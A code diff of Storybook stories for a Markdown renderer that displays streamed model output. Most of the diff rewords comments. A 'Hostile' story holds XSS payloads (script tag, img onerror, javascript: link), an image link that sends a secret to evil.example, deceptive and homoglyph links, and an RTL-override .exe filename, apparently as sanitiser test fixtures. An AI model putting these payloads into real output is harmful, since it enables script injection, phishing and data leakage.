@@ -81,7 +81,7 @@ function Typed({ text, ...props }: MarkdownProps) {
   return <Markdown {...props} text={text.slice(0, length)} isStreaming={isStreaming} />;
 }
 
-/** The text as a model sends it: what is half typed is not seen as marks. */
+/** The text grows as a model sends it. Half-typed marks are not visible. */
 export const Streaming: Story = {
   args: { text: EVERYTHING },
   render: (args) => <Typed {...args} />,
@@ -92,7 +92,7 @@ export const Streaming: Story = {
   },
 };
 
-/** Stopped in the middle of a bold word, a link and a table. */
+/** Three texts that end in the middle of a bold word, a link and a table. */
 export const HalfTyped: Story = {
   args: { text: "Bold as it is **typ", isStreaming: true },
   render: (args) => (
@@ -113,7 +113,7 @@ const KEYWORDS =
   /^(?:as|async|await|break|case|class|const|else|export|for|from|function|if|import|in|interface|let|new|of|return|type|while)$/;
 const PIECES = /(\/\/.*|"[^"\n]*"|'[^'\n]*'|`[^`]*`|\b\d+\b|\b[a-z]+\b)/i;
 
-/** Enough of a highlighter for a story. One from npm goes into the same place. */
+/** A highlighter that is small enough for a story. A highlighter from npm is used in the same way. */
 function HighlightedCode({ text, language, isBlock, className, children }: SlotCodeProps) {
   if (!isBlock || language !== "ts") return <code className={className}>{children}</code>;
   return (
@@ -143,7 +143,7 @@ export function canReturn(order: Order, now = Date.now()): boolean {
 \`\`\`
 `;
 
-/** Colours for code are a page's own component in place of \`code\`. */
+/** The page colours code with a component of its own. */
 export const HighlightedByThePage: Story = {
   args: { text: CODE, components: { code: HighlightedCode } },
   play: async ({ canvas }) => {
@@ -172,12 +172,12 @@ An English paragraph in the same answer.
   },
 };
 
-/** Written by someone who would like to run, to load or to deceive. */
+/** The text tries to run a script, to load an image, and to hide where a link goes. */
 export const Hostile: Story = {
   args: {
     text: `<script>alert(1)</script> <img src=x onerror=alert(1)>
 
-![a picture that would tell on you](https://evil.example/pixel.png?q=secret)
+![a picture that would report you](https://evil.example/pixel.png?q=secret)
 
 [A script](javascript:alert(1)), [https://bank.example/login](https://evil.example/) and
 [paypal](https://pаypal.com/login). An invoice: [\u202Efdp.exe](https://evil.example/a.exe).
@@ -196,8 +196,9 @@ ${"> ".repeat(60)}deep
   },
 };
 
-/** A component of the page's that throws leaves the answer readable. */
+/** A component of the page throws. The answer stays readable. */
 export const BrokenComponent: Story = {
+  parameters: { console: [/a mistake in the page's own component/] },
   args: {
     text: "An answer with a [link](https://shop.example).",
     components: {
